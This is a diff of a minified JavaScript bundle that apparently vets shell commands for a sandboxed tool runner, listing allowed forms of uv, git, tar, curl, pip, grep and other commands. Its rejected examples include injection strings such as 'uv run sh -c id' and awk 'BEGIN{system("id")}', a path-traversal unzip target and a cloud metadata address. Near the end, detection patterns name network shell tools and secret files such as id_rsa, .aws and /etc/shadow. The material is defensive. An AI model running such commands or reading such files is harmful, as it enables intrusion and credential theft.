+eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},EN={completes:!0,
 flags:{text:`
       allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
       disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
@@ -5472,9 +5463,9 @@ flags:{text:`
     `,path:"cache-dir= custom-typing-module= custom-typeshed-dir=",config:"config-file=",output:"cobertura-xml-report= h\
 tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code":"command,c=","uses-network":"interactiv\
 e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
-tup.cfg"],dependencies:Ys,environment:{...di,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
+tup.cfg"],dependencies:qs,environment:{...di,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
 e --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=./x src","mypy --config-file=/etc/x src"]},
-$R={extensions:"py",alone:"only-prints",flags:{text:`
+kN={extensions:"py",alone:"only-prints",flags:{text:`
       active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
       no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
       only-group= package= prerelease= quiet,q resolution= verbose,v dev
@@ -5483,19 +5474,19 @@ module,m+","uses-network":"with,w=","only-prints":"help,h version,V show-setting
       sync add remove pip venv init tool x export python self cache auth workspace publish
     `,"writes-files":"build version format","only-prints":"tree help generate-shell-completion"},subcommands:{run:{starts:"\
 program",alone:"only-prints"},lock:{unless:{"tool-writes":"check locked dry-run"}}},started_programs:["pytest","ruff","m\
-ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...Ys,{path:"\
+ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...qs,{path:"\
 .cache/uv",at:"home",variable:"UV_CACHE_DIR"},{path:".local/share/uv/python",at:"home"},{path:".local/share/uv/tools",at:"\
 home"}],environment:{...di,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
 y","uv run --frozen python -m pytest","uv lock --check"],not_match:["uv run sh -c id","uv run pytest -o addopts=x","uv r\
-un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},pm={warnings:["archive_extrac\
-tion_overwrite"]},mm={warnings:["archive_creation_overwrite"]},RR={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
-safe"},"-xf {archive} -C {destination}":pm,"-czf {archive} {source...}":mm},match:["tar -tf a.tar","tar -xf a.tar -C out",
+un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},fm={warnings:["archive_extrac\
+tion_overwrite"]},hm={warnings:["archive_creation_overwrite"]},vN={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
+safe"},"-xf {archive} -C {destination}":fm,"-czf {archive} {source...}":hm},match:["tar -tf a.tar","tar -xf a.tar -C out",
 "tar -czf a.tgz src docs"],not_match:["tar -czf a.tgz .","tar -xf a.tar -C /usr/local/","tar -tf host:a.tar"]},unzip:{risk:"\
-write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":pm},match:["unzip -l a.zip","unzip a.zip -d out"],
+write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":fm},match:["unzip -l a.zip","unzip a.zip -d out"],
 not_match:["unzip a.zip","unzip -o a.zip -d out","unzip a.zip -d out/../../../etc"]},zip:{risk:"write",forms:{"-r {archi\
-ve} {source...}":mm},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},gm={
-dangerous_targets:["/"],operands:"text path..."},NR={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
-not_match:["cd a b"]},chmod:{...gm,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...gm,risk:"d\
+ve} {source...}":hm},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},pm={
+dangerous_targets:["/"],operands:"text path..."},DN={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
+not_match:["cd a b"]},chmod:{...pm,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...pm,risk:"d\
 angerous",match:["chown me a"],not_match:["chown -R me a"]},cp:{risk:"write",flags:{text:"R n p"},operands:"path path...",
 match:["cp -R a b"],not_match:["cp a","cp -f a b"]},file:{flags:{text:"b"},operands:"input...",match:["file -b a"],not_match:[
 "file","file -"]},mkdir:{risk:"write",flags:{text:"p"},operands:"path...",match:["mkdir -p a"],not_match:["mkdir"]},mv:{
@@ -5518,26 +5509,26 @@ ime|access|use|ctime|status|mtime|modification|birth|creation time-style?=full-i
 mmas|horizontal|long|single-column|verbose|vertical"},default_operand:".",match:["ls","ls -ltrh src","ls --color=auto","\
 ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},Ii={text:"\
 w cached staged check exit-code name-only name-status numstat quiet shortstat stat no-color",count:"U= unified=",choice:"\
-color?=auto|always|never"},FR={...Ii,text:`${Ii.text} p S= G= all decorate first-parent follow graph merges no-merges on\
+color?=auto|always|never"},xN={...Ii,text:`${Ii.text} p S= G= all decorate first-parent follow graph merges no-merges on\
 eline patch reverse
     after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${Ii.count} n= max-count= skip=`},
-LR={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:Ii},log:{flags:FR}},curated:{
+ON={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:Ii},log:{flags:xN}},curated:{
 risk:"dangerous",forms:{"status --short":{risk:"safe"},"branch --show-current":{risk:"safe"},"log --oneline -n {count:1-\
 100}":{risk:"safe"},"diff --stat":{risk:"safe"},"diff --name-only":{risk:"safe"}}},match:["git status --short","git log \
---oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},Cm={network_touching:!0,
-forms:{"{domain}":{}}},PR={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
-not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...Cm,match:["dig host.test"],not_match:["di\
-g","dig @192.0.2.1 host.test"]},nslookup:{...Cm,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
+--oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},mm={network_touching:!0,
+forms:{"{domain}":{}}},AN={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
+not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...mm,match:["dig host.test"],not_match:["di\
+g","dig @192.0.2.1 host.test"]},nslookup:{...mm,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
 network_touching:!0,forms:{"-c {count:1-10} {host}":{}},match:["ping -c 1 host.test","ping -c 3 2001:db8::5"],not_match:[
-"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},ym={operands:"package...",network_touching:!0,
-warnings:["writes_files"]},jR={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
-install:ym},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
-y jq","apt-get remove jq"]}}},wm={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
- disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:ym}},
-MR={workspace:{pip:{...wm,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
-l git+https://x/y","pip"]},pip3:{...wm,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
+"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},gm={operands:"package...",network_touching:!0,
+warnings:["writes_files"]},SN={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
+install:gm},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
+y jq","apt-get remove jq"]}}},Cm={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
+ disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:gm}},
+TN={workspace:{pip:{...Cm,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
+l git+https://x/y","pip"]},pip3:{...Cm,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
 "-V":{},"--help":{},"{script} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:[
-'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},GR={curated:{clear:{operands:"",match:["clear"],
+'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},IN={curated:{clear:{operands:"",match:["clear"],
 not_match:["clear -x"]},lsof:{flags:{text:"a n P c= p="},match:["lsof -nP"],not_match:["lsof -t x"]},man:{operands:"page\
  page?",match:["man 1 ls"],not_match:["man -P sh ls","man ./x"]},open:{flags:{text:"R"},operands:"path...",forbidden_prefixes:[
 "http:","https:","ftp:","mailto:"],platforms:["darwin"],match:["open notes.md","open -R notes.md"],not_match:["open http\
@@ -5551,8 +5542,8 @@ int-type total"},curated:{flags:{text:"h"}},match:["df -h"],not_match:["df --out
  c h k s x b m t= B= all bytes human-readable summarize total threshold= block-size=",count:"d= max-depth=",pattern:"exc\
 lude="},default_operand:".",curated:{flags:{text:"a c h k s x",count:"d="}},match:["du -sh src","du -d 1"],not_match:["d\
 u --files0-from=x"]},uname:{flags:{text:"a m n r s v"},operands:"",match:["uname -a"],not_match:["uname x"]},whoami:{operands:"",
-match:["whoami"],not_match:["whoami x","whoami --force"]}}},bm={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
-flags:{count:"n= c="}}},HR={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
+match:["whoami"],not_match:["whoami x","whoami --force"]}}},ym={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
+flags:{count:"n= c="}}},$N={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
 wk '{print $1}' notes.md","awk -F / '{print $2}' notes.md"],not_match:[`awk 'BEGIN{system("id")}'`,"awk -f x y",`awk '{p\
 rint > "/etc/x"}' y`]},cut:{flags:{text:"d= f= b= c= s delimiter= fields= bytes= characters= complement only-delimited o\
 utput-delimiter="},match:["cut -d, -f1 data.csv"],not_match:["cut --force x"]},diff:{flags:{text:"B N a b i q r s u w y \
@@ -5569,139 +5560,139 @@ nt ignore-case invert-match files-with-matches line-number only-matching quiet r
 = include= exclude= exclude-dir=",path:"f=",count:"m= A= B= C= max-count=",choice:"color?=auto|always|never"},operands:"\
 pattern input...",first_operand_by:["-e","-f","--regexp"],last_operand_by:["-r","-R","--recursive"],default_operand:".",
 curated:{flags:{text:"E F H R h i l n r",pattern:"e=",path:"f=",count:"m="}},match:["grep -rn TODO src","grep -- -x note\
-s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{...bm,match:["h\
+s.md","grep -f - notes.md"],not_match:["grep","grep --force x a","grep -e a","grep x","grep x -"]},head:{...ym,match:["h\
 ead -c5 notes.md"],not_match:["head","head -n x notes.md","head -"]},sort:{flags:{text:"n r u b c d f g h i s V z t= k= \
 field-separator= key= numeric-sort reverse unique human-numeric-sort version-sort ignore-case stable check"},operands:"i\
 nput...",curated:{flags:{text:"n r u"}},match:["sort -nr notes.md"],not_match:["sort -o out notes.md","sort","sort -","s\
-ort --compress-program=sh a"]},tail:{...bm,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
+ort --compress-program=sh a"]},tail:{...ym,match:["tail -n 3 notes.md"],not_match:["tail","tail -f notes.md","tail -"]},
 uniq:{flags:{text:"c d u i count repeated unique ignore-case",count:"f= s= w="},operands:"input",curated:{flags:{text:"c\
  d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{flags:{text:"c l w m L bytes\
  chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:["wc -cl notes.md"],not_match:[
-"wc --files0-from=x","wc -l","wc -"]}}},zR={archives:An(RR),build:$i({cargo:_R,go:ER,make:DR}),files:An(NR),git:An(LR),javascript:$i(
-{bun:kR,deno:vR,pnpm:xR,yarn:OR}),network:An(PR),packages:An(jR),php:$i({php:AR,phpunit:SR}),python:[...An(MR),...$i({mypy:IR,
-pytest:eS,python:QA,ruff:TR,uv:$R})],system:An(GR),text:An(HR)};function $i(t){return Object.entries(t).map(([e,n])=>({name:e,
+"wc --files0-from=x","wc -l","wc -"]}}},NN={archives:An(vN),build:$i({cargo:fN,go:hN,make:gN}),files:An(DN),git:An(ON),javascript:$i(
+{bun:pN,deno:mN,pnpm:CN,yarn:yN}),network:An(AN),packages:An(SN),php:$i({php:wN,phpunit:bN}),python:[...An(TN),...$i({mypy:EN,
+pytest:JA,python:UA,ruff:_N,uv:kN})],system:An(IN),text:An($N)};function $i(t){return Object.entries(t).map(([e,n])=>({name:e,
 evolver:n}))}function An({curated:t,workspace:e,both:n}){const s=(r={},i)=>Object.entries(r).map(([o,a])=>({name:o,sandbox:{
-...a,only:i}}));return[...s(t,"curated"),...s(e,"workspace"),...s(n)]}const _m=Object.entries(zR).flatMap(([t,e])=>e.map(
-n=>({...n,category:t}))).sort((t,e)=>t.name<e.name?-1:1);let bc;const Em=new WeakMap;function Ri(t=[]){if(bc??=new Map(_m.
-map(s=>[s.name,vm(s)])),t.length===0)return bc;const e=Em.get(t);if(e!==void 0)return e;const n=new Map(bc);for(const s of t){
-const r=n.get(s.name);n.set(s.name,{...r,...vm(s,r?.category)})}return Em.set(t,n),n}const km="other";function vm(t,e=km){
-const n=OA.parse(t);return{...n,category:n.category??e}}function eU(t){return[...new Set([..._m,...t].map(({category:e=km})=>e))]}
-function Ni(t){return[...Ri(t).values()].flatMap(e=>{const{evolver:n,name:s}=e;return n===void 0?[]:(n.programs??[s]).map(
-r=>({word:r,family:e,evolver:n}))})}function tU(t){return[...TOOLS.keys(),...Ni(t).map(({word:e})=>e)]}function nU(t){const e=Ni(
-t).flatMap(({word:s,family:r})=>[r.name,s]),n=[...Ri(t).values()].filter(Dm);return[...new Set([...e,...n.map(({name:s})=>s)])]}
-function UR(t,{programs:e,families:n}){if(!e.includes(t))return!1;const s=Ri(n).get(t);return s!==void 0&&Dm(s)}function Dm({
-evolver:t,sandbox:e}){return t===void 0&&e!==void 0&&e.only!=="workspace"&&e.maturity!=="blocked"}function xm(t,e,n){const s=Ri(
+...a,only:i}}));return[...s(t,"curated"),...s(e,"workspace"),...s(n)]}const wm=Object.entries(NN).flatMap(([t,e])=>e.map(
+n=>({...n,category:t}))).sort((t,e)=>t.name<e.name?-1:1);let wc;const bm=new WeakMap;function Ni(t=[]){if(wc??=new Map(wm.
+map(s=>[s.name,Em(s)])),t.length===0)return wc;const e=bm.get(t);if(e!==void 0)return e;const n=new Map(wc);for(const s of t){
+const r=n.get(s.name);n.set(s.name,{...r,...Em(s,r?.category)})}return bm.set(t,n),n}const _m="other";function Em(t,e=_m){
+const n=hA.parse(t);return{...n,category:n.category??e}}function Jz(t){return[...new Set([...wm,...t].map(({category:e=_m})=>e))]}
+function Ri(t){return[...Ni(t).values()].flatMap(e=>{const{evolver:n,name:s}=e;return n===void 0?[]:(n.programs??[s]).map(
+r=>({word:r,family:e,evolver:n}))})}function Zz(t){return[...TOOLS.keys(),...Ri(t).map(({word:e})=>e)]}function Kz(t){const e=Ri(
+t).flatMap(({word:s,family:r})=>[r.name,s]),n=[...Ni(t).values()].filter(km);return[...new Set([...e,...n.map(({name:s})=>s)])]}
+function RN(t,{programs:e,families:n}){if(!e.includes(t))return!1;const s=Ni(n).get(t);return s!==void 0&&km(s)}function km({
+evolver:t,sandbox:e}){return t===void 0&&e!==void 0&&e.only!=="workspace"&&e.maturity!=="blocked"}function vm(t,e,n){const s=Ni(
 n).get(e),{only:r=t,curated:i,...o}=s?.sandbox??{};if(!(s?.sandbox===void 0||r!==t))return t==="workspace"||i===void 0?{
-...o,family:s}:{...o,...i,family:s}}function JR({word:t,family:e},n){return n.includes(t)||n.includes(e.name)}const Om=new WeakMap;
-function Am(t){const e=Om.get(t);if(e!==void 0)return e;const{programs:n,families:s,tool_flags:r={},make_variables:i=[]}=t,
-o=new Map,a=new Map;for(const u of n.length===0?[]:Ni(s)){const{variables:d}=u.evolver,B=d?{...u.evolver,variables:[...d,
-...i]}:u.evolver,f=W0(u.word,B,Sm(r[u.word]));o.set(u.word,f),JR(u,n)&&a.set(u.word,f)}let c;const l={tools:ZR(r),allowed:a,
-known:o,offered:u=>(c??=new Map(Ni(s).map(d=>[d.word,d.family.name])),c.get(u))};return Om.set(t,l),l}function ZR(t){return new Map(
-Object.entries(t).flatMap(([e,n])=>{const s=sx(e,Sm(n));return s===void 0?[]:[[e,s]]}))}function Sm(t=[]){const e=new Map(
+...o,family:s}:{...o,...i,family:s}}function FN({word:t,family:e},n){return n.includes(t)||n.includes(e.name)}const Dm=new WeakMap;
+function xm(t){const e=Dm.get(t);if(e!==void 0)return e;const{programs:n,families:s,tool_flags:r={},make_variables:i=[]}=t,
+o=new Map,a=new Map;for(const u of n.length===0?[]:Ri(s)){const{variables:d}=u.evolver,B=d?{...u.evolver,variables:[...d,
+...i]}:u.evolver,f=Z0(u.word,B,Om(r[u.word]));o.set(u.word,f),FN(u,n)&&a.set(u.word,f)}let c;const l={tools:LN(r),allowed:a,
+known:o,offered:u=>(c??=new Map(Ri(s).map(d=>[d.word,d.family.name])),c.get(u))};return Dm.set(t,l),l}function LN(t){return new Map(
+Object.entries(t).flatMap(([e,n])=>{const s=ex(e,Om(n));return s===void 0?[]:[[e,s]]}))}function Om(t=[]){const e=new Map(
 t.map(({flag:s,value:r})=>[fs(s.replace(/^-+/,"")),r])),n=(s,r)=>[...e].flatMap(([i,o])=>o===s?`${i}${r}`:[]);return{text:[
-...n("none",""),...n("text","=")].join(" "),tests:n("path","=").join(" ")}}const Tm={path:"node_modules",at:"anywhere"};
-function Im(t){if(t.programs.length===0)return[Tm];const e=[...Am(t).allowed.values()],n=[Tm,...e.flatMap(({data:s})=>s.
-dependencies)];return[...new Map(n.map(s=>[`${s.at} ${s.path}`,s])).values()]}function KR(t){return dm(t.build_outputs,Im(
-t))}function sU(t){return Im(t).flatMap(({at:e,path:n})=>e==="home"?[n]:[])}const Sn="/\0checkout";function _c({policy:t,
-tree:e,platform:n,cwd:s=""},r){const{workspace:i}=t,o=WR(t)?Sn:void 0,{files:a,cwd:c=s===""?o:`${o??i}/${s}`}=r;return{policy:t,
-platform:n,proposal:r,mount:a?{at:"/",tree:a}:e?{at:o??i,tree:e}:{at:Sn},cwd:c}}function WR({workspace:t}){const e=zs(t,
-Sn,{at:Sn});return e!==void 0&&jr(e,Sn)}class Ec{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:n,platform:s,
-mount:r}){this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=zs(e,Sn,this.#t)??Sn,this.cwd=n===
-void 0?this.workspace:zs(n,this.workspace,r)??Sn}locate(e){return zs(e,this.cwd,this.#e)}leadsInto(e,n){const s=this.locate(
-e);return s===void 0?!1:n.some(r=>{const i=zs(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,n){return jr(
-e,n,{ignoreCase:this.#s})}mayBeIn(e,n){return jr(e,n,{ignoreCase:!0})}}var Kn=Te(56);const qR=new Map(Object.entries({"d\
+...n("none",""),...n("text","=")].join(" "),tests:n("path","=").join(" ")}}const Am={path:"node_modules",at:"anywhere"};
+function Sm(t){if(t.programs.length===0)return[Am];const e=[...xm(t).allowed.values()],n=[Am,...e.flatMap(({data:s})=>s.
+dependencies)];return[...new Map(n.map(s=>[`${s.at} ${s.path}`,s])).values()]}function PN(t){return um(t.build_outputs,Sm(
+t))}function Wz(t){return Sm(t).flatMap(({at:e,path:n})=>e==="home"?[n]:[])}const Sn="/\0checkout";function bc({policy:t,
+tree:e,platform:n,cwd:s=""},r){const{workspace:i}=t,o=jN(t)?Sn:void 0,{files:a,cwd:c=s===""?o:`${o??i}/${s}`}=r;return{policy:t,
+platform:n,proposal:r,mount:a?{at:"/",tree:a}:e?{at:o??i,tree:e}:{at:Sn},cwd:c}}function jN({workspace:t}){const e=Hs(t,
+Sn,{at:Sn});return e!==void 0&&Lr(e,Sn)}class _c{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:n,platform:s,
+mount:r}){this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=Hs(e,Sn,this.#t)??Sn,this.cwd=n===
+void 0?this.workspace:Hs(n,this.workspace,r)??Sn}locate(e){return Hs(e,this.cwd,this.#e)}leadsInto(e,n){const s=this.locate(
+e);return s===void 0?!1:n.some(r=>{const i=Hs(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,n){return Lr(
+e,n,{ignoreCase:this.#s})}mayBeIn(e,n){return Lr(e,n,{ignoreCase:!0})}}var Kn=Te(56);const MN=new Map(Object.entries({"d\
 eletes files":"rm rmdir shred truncate unlink","overwrites files or disks":"dd","reaches other machines":"ftp nc ncat ne\
-tcat rsync scp sftp ssh telnet","reads the environment":"printenv"}).flatMap(([t,e])=>e.split(" ").map(n=>[n,t]))),VR=2,
-YR=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
-XR={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
+tcat rsync scp sftp ssh telnet","reads the environment":"printenv"}).flatMap(([t,e])=>e.split(" ").map(n=>[n,t]))),GN=2,
+HN=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
+zN={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
 "reads the environment":/\bprocess\s*(?:\?\.|\.|(?:\?\.)?\[\s*\\?['"`])\s*(?:env|binding|dlopen)\b|\benv\b[^}]{0,200}\}\s*=\s*process\b|['"`](?:node:)?process\\?['"`]|\bos\s*\.\s*(?:environ|getenv)\b|\bgetenv\b|[%$@]ENV\b|\bENV\s*[[.]/,
 "deletes files":/\b(?:rm|rmdir|unlink|truncate)(?:Sync)?\s*\(|\bos\s*\.\s*(?:remove|unlink)\b|\bshutil\b/,"uses the netw\
 ork":/\bfetch\s*\(|['"`](?:node:)?(?:dgram|dns|https?|http2|net|tls)\\?['"`]|\b(?:urllib|requests|socket)\b/,"runs text \
-as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function $m(t){if(YR.test(t))return"names \
-a file that is made for secrets";const e=Kt(t),n=en(e).some(QR)?Object.entries(XR).find(([,r])=>r.test(t)):void 0;if(n!==
-void 0)return`${n[0]} in inline code`;const[s]=ys(e);return s?lc[s.name]:Rm(e)}function QR({words:t}){return t.some((e,n)=>Ai(
-t.slice(n))!==void 0)}function Rm(t,e=0){for(const{words:n,pipedFrom:s}of en(t)){const[r,...i]=n;if(r===void 0)continue;
-const o=te.posix.basename(r.text),a=Nm(o);if(a!==void 0)return a;if(si(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
- run whatever it reads`;if(!(o!=="find"&&!Uf(o)))for(const{text:c}of i){const l=Nm(te.posix.basename(c));if(l!==void 0)return l;
-const d=e<VR&&/\s/.test(c)?Rm(Kt(c),e+1):void 0;if(d!==void 0)return d}}}function Nm(t){const{kind:e,wraps:n}=ut(t)??{};
-if(n==="as-user")return`acts as another user with \`${t}\``;const s=e==="downloader"?"downloads":qR.get(t);return s&&`${s}\
- with \`${t}\``}function Fm({warnings:t=[],network_touching:e}){return e?["network_touching",...t]:t}function Lm(t,e,n=(s,r)=>Bs[s](
-r)){if(e.forms!==void 0)return eN(t,e,e.forms,n);if(e.subcommands===void 0)return Mm(t,e,n);const[s,...r]=t,i=Object.entries(
-e.subcommands).find(([a])=>a===s?.text)?.[1];if(i!==void 0)return Mm(r,{...e,...i},n);const o=`is accepted only with ${jm(
-Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function eN(t,e,n,s){
-const r=`is accepted only as ${jm(Object.keys(n))}`,[i]=t;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
-{word:i}}]};for(const[a,c]of Object.entries(n)){const l=J0(df(a)??[],t,s);if(l===void 0)continue;const u=l.map(({word:B,
+as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function Tm(t){if(HN.test(t))return"names \
+a file that is made for secrets";const e=Kt(t),n=en(e).some(UN)?Object.entries(zN).find(([,r])=>r.test(t)):void 0;if(n!==
+void 0)return`${n[0]} in inline code`;const[s]=Cs(e);return s?uc[s.name]:Im(e)}function UN({words:t}){return t.some((e,n)=>Ai(
+t.slice(n))!==void 0)}function Im(t,e=0){for(const{words:n,pipedFrom:s}of en(t)){const[r,...i]=n;if(r===void 0)continue;
+const o=te.posix.basename(r.text),a=$m(o);if(a!==void 0)return a;if(ni(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
+ run whatever it reads`;if(!(o!=="find"&&!Uf(o)))for(const{text:c}of i){const l=$m(te.posix.basename(c));if(l!==void 0)return l;
+const d=e<GN&&/\s/.test(c)?Im(Kt(c),e+1):void 0;if(d!==void 0)return d}}}function $m(t){const{kind:e,wraps:n}=ut(t)??{};
+if(n==="as-user")return`acts as another user with \`${t}\``;const s=e==="downloader"?"downloads":MN.get(t);return s&&`${s}\
+ with \`${t}\``}function Nm({warnings:t=[],network_touching:e}){return e?["network_touching",...t]:t}function Rm(t,e,n=(s,r)=>Bs[s](
+r)){if(e.forms!==void 0)return JN(t,e,e.forms,n);if(e.subcommands===void 0)return Pm(t,e,n);const[s,...r]=t,i=Object.entries(
+e.subcommands).find(([a])=>a===s?.text)?.[1];if(i!==void 0)return Pm(r,{...e,...i},n);const o=`is accepted only with ${Lm(
+Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function JN(t,e,n,s){
+const r=`is accepted only as ${Lm(Object.keys(n))}`,[i]=t;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
+{word:i}}]};for(const[a,c]of Object.entries(n)){const l=z0(lf(a)??[],t,s);if(l===void 0)continue;const u=l.map(({word:B,
 kind:f})=>({text:B.text,word:B,kind:f})),d=l.find(B=>B.wrong!==void 0);if(!d)return{use:{...e,...c},flags:[],values:u,objections:[]};
-o={...o,values:u,objections:[Pm(d)]}}return o}function Pm({word:t,wrong:e}){return{objection:`does not accept \`${t.text}\
-\`, which ${e}`,word:t}}function jm(t){return t.map(e=>`\`${e}\``).join(", ")}function Mm(t,e,n){const{leading_flags:s=[]}=e,
-{flags:r,operands:i}=ps(q0(e.flags,s),t),o=[],a=(C,y)=>o.push(Pm({word:C,wrong:y})),c=[],l=[];for(const{word:C,flag:y,value:b,
-valueWord:D}of r){if(y===void 0||Ra(y.kind)||y.choices?.includes(b??"")===!1){a(C,"is not among its flags");continue}l.push(
-y.name),s.includes(y.name)&&i.some(O=>Gm(C,O))&&a(C,"must come before the operands"),y.arity!=="none"&&(b===void 0?a(C,"\
+o={...o,values:u,objections:[Fm(d)]}}return o}function Fm({word:t,wrong:e}){return{objection:`does not accept \`${t.text}\
+\`, which ${e}`,word:t}}function Lm(t){return t.map(e=>`\`${e}\``).join(", ")}function Pm(t,e,n){const{leading_flags:s=[]}=e,
+{flags:r,operands:i}=Jn(gf(e.flags,s),t),o=[],a=(C,y)=>o.push(Fm({word:C,wrong:y})),c=[],l=[];for(const{word:C,flag:y,value:b,
+valueWord:D}of r){if(y===void 0||ui(y.kind)||y.choices?.includes(b??"")===!1){a(C,"is not among its flags");continue}l.push(
+y.name),s.includes(y.name)&&i.some(O=>jm(C,O))&&a(C,"must come before the operands"),y.arity!=="none"&&(b===void 0?a(C,"\
